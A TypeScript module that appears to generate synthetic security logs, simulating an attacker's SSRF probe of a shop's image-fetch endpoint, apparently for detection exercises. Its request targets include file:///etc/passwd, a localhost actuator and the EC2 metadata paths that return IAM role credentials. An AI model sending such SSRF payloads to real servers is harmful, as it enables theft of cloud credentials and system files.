import type { Day } from "../day";
import type { LogEvent } from "../event";
import { wafMatch } from "../normal/traffic";
import type { Random } from "../random";
import { flowEvent } from "../records/network";
import { type WafMatch, webRequestEvents } from "../records/web";
import { SECOND } from "../time";
import type { IntrusionPlan } from "./plan";

const ATTACKER_USER_AGENT = "python-requests/2.32.3";
/** The rule group's SSRF rule only counts here, a common setting while a shop still learns its false positives. */
const SSRF = wafMatch("Common", "EC2MetaDataSSRF_QueryArguments", "COUNT");
const LFI = wafMatch("Common", "GenericLFI_QueryArguments", "BLOCK");

interface Step {
  readonly seconds: number;
  readonly target: string;
  readonly rule?: WafMatch;
  readonly bytes: number;
  /** Which connection carries the request: the client keeps connections open. */
  readonly connection: number;
}

/**
 * The shop fetches product images from an address in the query. The attacker finds out and makes it fetch the instance's
 * credentials from the metadata service.
 */
export function entry(day: Day, random: Random, plan: IntrusionPlan): LogEvent[] {
  const { world } = day;
  const image = (url: string) => `/product/image?url=${encodeURIComponent(url)}`;
  const metadata = (path: string) => `/product/image?url=http://169.254.169.254/latest/${path}`;
  const role = plan.stolen.role.name;
  const theft = (plan.times.theft - plan.times.probe) / SECOND;
  const steps: Step[] = [
    { seconds: 0, target: "/", bytes: 18_222, connection: 0 },
    { seconds: 9, target: "/product/1042", bytes: 9_204, connection: 0 },
    { seconds: 31, target: image("https://example.org/a.png"), bytes: 611, connection: 0 },
    { seconds: 58, target: image("file:///etc/passwd"), rule: LFI, bytes: 118, connection: 1 },
    { seconds: 83, target: image("http://127.0.0.1:8080/actuator"), bytes: 402, connection: 1 },
    { seconds: 121, target: metadata("meta-data/"), rule: SSRF, bytes: 302, connection: 1 },
    {
      seconds: theft - 24,
      target: metadata("meta-data/iam/security-credentials/"),
      rule: SSRF,
      bytes: 8,
      connection: 2,
    },
    {
      seconds: theft,
      target: metadata(`meta-data/iam/security-credentials/${role}`),
      rule: SSRF,
      bytes: 1_432,
      connection: 2,
    },
    {
      seconds: theft + 6,
      target: metadata("dynamic/instance-identity/document"),
      rule: SSRF,
      bytes: 478,
      connection: 2,
    },
  ];
  const ports = [random.integer(20_000, 29_999), random.integer(30_000, 39_999), random.integer(40_000, 49_999)];
  const requests = steps.flatMap(({ seconds, target, rule, bytes, connection }) =>
    webRequestEvents(world, random, {
      time: plan.times.probe + seconds * SECOND,
      clientIp: plan.webAddress,
      clientPort: ports[connection] ?? 0,
      node: connection,
      country: "NL",
      method: "GET",
      target,
      userAgent: ATTACKER_USER_AGENT,
      status: rule?.action === "BLOCK" ? 403 : 200,
      responseBytes: bytes,
      rule,
      instance: rule?.action === "BLOCK" ? undefined : plan.victim,
    }),
  );
  const connections = ports.flatMap((port, connection) => {
    const first = steps.find((step) => step.connection === connection)?.seconds ?? 0;
    const node = world.loadBalancer.nodes[connection % world.loadBalancer.nodes.length];
    if (node === undefined) {
      return [];
    }
    const common = {
      time: plan.times.probe + first * SECOND,
      interfaceId: node.interfaceId,
      protocol: 6,
      packets: random.integer(12, 30),
      bytes: random.integer(2_500, 22_000),
      action: "ACCEPT" as const,
    };
    return [
      flowEvent(world.shop, {
        ...common,
        sourceIp: plan.webAddress,
        sourcePort: port,
        destinationIp: node.privateIp,
        destinationPort: 443,
        direction: "ingress",
      }),
      flowEvent(world.shop, {
        ...common,
        sourceIp: node.privateIp,
        sourcePort: 443,
        destinationIp: plan.webAddress,
        destinationPort: port,
        direction: "egress",
      }),
    ];
  });
  return [...requests, ...connections];
}
